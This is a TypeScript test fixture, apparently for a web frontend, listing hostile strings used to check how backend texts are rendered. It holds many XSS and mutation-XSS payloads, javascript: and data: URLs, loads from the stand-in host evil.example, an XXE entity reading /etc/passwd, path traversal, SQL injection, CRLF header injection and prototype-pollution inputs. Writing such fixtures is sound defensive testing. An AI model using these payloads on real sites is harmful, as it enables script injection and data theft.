/*
 * What an attacker, or a careless editor, may have put into a backend's texts. Each would call `attack()`, load from
 * `evil.example` or lead there, end what it is embedded in, or confuse whoever reads it.
 */

/** The host of all addresses here. */
export const EVIL_HOST = 'evil.example'

/** Markup that runs something, or fetches from elsewhere, where it is taken for HTML. */
const markup = [
  '<script>attack()</script>',
  '<ScRiPt src=//evil.example/a.js></sCrIpT >',
  '<scr<script>ipt>attack()</scr</script>ipt>',
  '"><script>attack()</script>',
  `'"--></title></textarea></style></noscript></template></script><script>attack()</script>`,
  '<img src=x onerror=attack()>',
  '<img/src="x"/onerror="attack()"//',
  '"><img src=x onerror=attack()>.png',
  '" autofocus onfocus="attack()" x="',
  "' onmouseover='attack()' style='position:fixed;inset:0' x='",
  '<svg onload=attack()>',
  '<svg><script>attack()</script></svg>',
  '<svg><a><animate attributeName=href values=javascript:attack() /><text>a</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror=attack() /></svg>#x">',
  '<svg><foreignObject><iframe onload=attack()></iframe></foreignObject></svg>',
  '<math><mtext><script>attack()</script></mtext></math>',
  '<math href="javascript:attack()">a</math>',
  '<iframe src="javascript:attack()"></iframe>',
  '<iframe srcdoc="<script>parent.attack()</script>"></iframe>',
  '<object data="data:text/html,<script>attack()</script>"></object>',
  '<embed src="https://evil.example/a.swf">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/a.css">',
  '<link rel=preload as=image href=https://evil.example/a.png>',
  '<form action="https://evil.example/"><button formaction="javascript:attack()">a</button></form>',
  '<details open ontoggle=attack()><summary>a</summary></details>',
  '<video poster="https://evil.example/a.png" onloadstart=attack()><source src=x onerror=attack()></video>',
  '<input type=image src=x onerror=attack()>',
  '<body onload=attack() background="https://evil.example/a.png">',
  '<a href="javascript:attack()">a</a>',
  '<a href=" \u0001JaVa\tScRiPt&colon;attack()">a</a>',
  '<a href="https://user:pass@evil.example/" target=_top>a</a>',
  '<p id=location name=cookie class=jm-hidden>a</p>',
  '<template><script>attack()</script></template></template><img src=x onerror=attack()>',
  '<template shadowrootmode=open><img src=x onerror=attack()></template>',
  // What is harmless until the browser has parsed it, or parses it again.
  '<noscript><p title="</noscript><img src=x onerror=attack()>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=attack()&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=attack()>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=attack()>',
  '<select><iframe></select><img src=x onerror=attack()>',
  '<!--><img src=x onerror=attack()>-->',
  '<![CDATA[<img src=x onerror=attack()>]]>',
  '<?xml-stylesheet href="javascript:attack()"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  // What ends the element that the build or the prerenderer embeds a text in.
  '</script><script>attack()</script>',
  '<!--<script>',
  '{"@type":"Thing"}</script><script type="application/ld+json">{"@context":"https://evil.example"}',
  '","url":"https://evil.example","x":"',
  '</style><img src=x onerror=attack()>',
  '</title><meta property="og:image" content="https://evil.example/a.png">',
  ']]></loc></url><url><loc>https://evil.example/</loc></url>',
  '<style>@import "https://evil.example/a.css";*{background:url(https://evil.example/a.png)}</style>',
  '100%;background:url(https://evil.example/a.png);position:fixed;inset:0;z-index:9',
  '&lt;img src=x onerror=attack()&gt; &#60;script&#62;attack()&#60;/script&#62; &#x3c;svg onload=attack()&#x3e;',
  '&#xD800; &#x110000; &#0; &#x0;',
] as const

/** Words that aren't what they seem. */
const words = [
  'nol\u0000byte \u0007\u001b[31m\u007f\u009b',
  '\u202egnp.\u202cexe \u2066\u2067\u200e\u200f\u061c',
  '\u200b\u200c\u200d\ufeff\u2060\u00ad',
  `Masjid${'panjangsekali'.repeat(160)}`,
  'Z\u0351\u036b\u0343\u036a'.repeat(40),
  '\u0430\u0440\u0440\u04cf\u0435.com/\u0440\u0430\u0443\u0440\u0430l',
  '\ud800 \udfff \ufffe \uffff',
  '__proto__',
  'constructor',
  'prototype.toString.hasOwnProperty',
  '{"__proto__":{"attacked":true}}',
  'a\r\nSet-Cookie: attacked=1\r\n\r\n<script>attack()</script>',
  'BEGIN:VEVENT\r\nATTACH:https://evil.example/\r\nEND:VEVENT\r\nEND:VCALENDAR',
  '%s%n%p%x%d ${7*7} {{7*7}} <%= 7*7 %> #{7*7}',
  '../../../../etc/passwd',
  '..%2f..%2f..%5c%00.png',
  '\ud83d.png',
  "'; DROP TABLE donasi; --",
  '$& $1 $` $\u0027 $$ \\1',
  'NaN undefined null -0 1e309 0x10',
  '\u2028attack()\u2029//',
] as const

/** Addresses, each as the contract's `format: uri` lets it through. */
export const hostileUrls = [
  'javascript:attack()',
  'JaVaScRiPt:attack()',
  'javascript://%0aattack()',
  'javascript:attack()//https://localhost:4010/a.png',
  'data:text/html,%3Cscript%3Eattack()%3C/script%3E',
  'data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,%3Csvg%20xmlns=%22http://www.w3.org/2000/svg%22%20onload=%22attack()%22/%3E',
  'vbscript:attack()',
  'blob:https://evil.example/0b1c',
  'file:///etc/passwd',
  'about:srcdoc',
  'view-source:https://evil.example/',
  'intent://evil.example/#Intent;scheme=https;end',
  'ftp://evil.example/a.png',
  'http://evil.example/a.png',
  'https://evil.example/a.png',
  'https://evil.example/a.svg?%22%20onerror=%22attack()',
  'https://user:pass@evil.example/a.png',
  'https://localhost:4010@evil.example/a.png',
  'http://localhost:4010.evil.example/a.png',
  'https://evil.example/%0d%0aSet-Cookie:%20attacked=1',
  'https://xn--80ak6aa92e.com/',
] as const

/** Addresses in the spellings that only a browser understands. */
const spellings = [
  '//evil.example/a.png',
  '/\\evil.example/a.png',
  '\\\\evil.example\\a.png',
  '/\t/evil.example/a.png',
  'https:evil.example',
  'java\tscript:attack()',
  '\u0001javascript:attack()',
  'javascript&colon;attack()',
  'https://evil.example\u3002com/',
] as const

/** Everything that a free text may be. */
export const hostileTexts: readonly string[] = [...markup, ...words, ...spellings, ...hostileUrls]
